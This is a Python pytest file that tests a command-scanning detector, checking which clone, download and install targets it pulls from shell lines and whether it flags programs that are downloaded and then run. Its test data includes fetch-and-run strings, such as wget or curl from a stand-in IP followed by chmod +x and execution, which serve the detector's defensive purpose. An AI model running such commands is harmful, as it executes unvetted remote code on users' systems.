import pytest

from colonnade.detection.extract import extract
from colonnade.detection.features.feature import Collector, Kind
from colonnade.detection.features.targets import read_targets


def targets(line: str) -> set[tuple[Kind, str]]:
    collector, words = Collector(), tuple(line.split())
    read_targets(collector, words[0], words[1:], 1, 1)
    return {(one.kind, one.value) for one in collector.features() if one.kind is not Kind.PROJECT}


@pytest.mark.parametrize(
    ("line", "found"),
    [
        ("git clone a.example:b/c", {(Kind.CLONE, "a.example/b/c")}),
        ("git status https://a.example/b", set()),
        ("git checkout main", set()),
        ("hub clone a/b", {(Kind.CLONE, "github.com/a/b")}),
        ("wget a.example/b", {(Kind.DOWNLOAD, "a.example/b")}),
        ("wget -O a.example/b https://c.example", {(Kind.DOWNLOAD, "c.example")}),
        ("aria2c -x 16 https://a.example/b", {(Kind.DOWNLOAD, "a.example/b")}),
        ("gdown short", set()),
        ("hf upload a/b", set()),
        ("hf download a/b --repo-type space", {(Kind.DOWNLOAD, "huggingface.co/spaces/a/b")}),
        ("pip install a>=1", {(Kind.INSTALL, "a")}),
        ("pip uninstall a", set()),
    ],
)
def test_targets_of_a_command(line: str, found: set[tuple[Kind, str]]):
    assert targets(line) == found


@pytest.mark.parametrize(
    ("source", "runs"),
    [
        ("!wget http://203.0.113.5/x/abc && chmod +x abc && ./abc", True),
        ("!curl -O http://203.0.113.5/abc?x=1\n!nohup ./abc &", True),
        ("!wget http://203.0.113.5/abc.csv && ./other abc.csv", False),
        ("!wget http://203.0.113.5/abc", False),
    ],
)
def test_what_is_fetched_and_run_under_its_name_is_noted(source: str, *, runs: bool):
    noted = {one.value for one in extract(source) if one.kind is Kind.OPAQUE}
    assert ("downloaded-program" in noted) is runs
